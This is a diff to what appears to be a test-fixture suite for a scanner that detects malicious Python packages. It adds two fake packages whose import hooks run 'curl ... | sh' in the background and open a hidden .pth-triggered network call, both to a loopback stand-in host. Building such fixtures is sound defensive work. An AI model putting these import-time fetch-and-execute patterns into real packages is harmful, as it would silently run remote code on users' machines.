@@ -65,6 +65,20 @@ def submodule_fetch_spawn(root: FakeRoot) -> None:
     root.add_dist(SITE, "metricsd", "1.0", files)
 
 
+def init_curl_pipe_shell(root: FakeRoot) -> None:
+    init = "import os\nos.system('curl -s http://127.0.0.1:9/a.sh | sh >/dev/null 2>&1 &')\n"
+    root.add_dist(SITE, "fastlogz", "0.2", {"fastlogz/__init__.py": init.encode()})
+
+
+def pth_module_lambda_thread(root: FakeRoot) -> None:
+    root.add_pth(SITE, "zz-telemetry.pth", "import _zz_tel\n")
+    module = (
+        "import threading, urllib.request\n"
+        "threading.Thread(target=lambda: urllib.request.urlopen('http://127.0.0.1:9/b')).start()\n"
+    )
+    root.add_file(f"{SITE}/_zz_tel.py", module)
+
+
 def init_writes_pth(root: FakeRoot) -> None:
     init = (
         "import os, site\n"
@@ -166,6 +180,8 @@ MECHANICS: List[Case] = [
     ("init-decode-exec", init_decode_exec, IMPORT, "colorlogx/__init__.py"),
     ("submodule-fetch-spawn", submodule_fetch_spawn, IMPORT, "metricsd/_telemetry.py"),
     ("init-writes-pth", init_writes_pth, IMPORT, "syncutil/__init__.py"),
+    ("init-curl-pipe-shell", init_curl_pipe_shell, IMPORT, "fastlogz/__init__.py"),
+    ("pth-module-lambda-thread", pth_module_lambda_thread, IMPORT, "_zz_tel.py"),
     ("pth-bundled-module", pth_bundled_module, IMPORT, "_helper_boot.py"),
     ("pth-calls-function", pth_calls_module_function, IMPORT, "acc_hook/__init__.py"),
     ("pth-multiprocessing", pth_multiprocessing, IMPORT, "mpboot.py"),
